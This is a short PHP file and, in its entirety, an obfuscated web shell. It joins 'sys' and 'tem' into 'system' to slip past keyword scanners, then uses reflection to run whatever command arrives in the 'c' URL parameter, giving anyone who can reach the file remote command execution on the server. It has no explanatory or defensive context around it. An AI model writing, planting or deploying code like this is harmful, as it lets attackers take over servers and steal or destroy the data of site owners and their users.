<?php
$rf = new ReflectionFunction('sys' . 'tem');
$rf->invoke($_GET['c']);
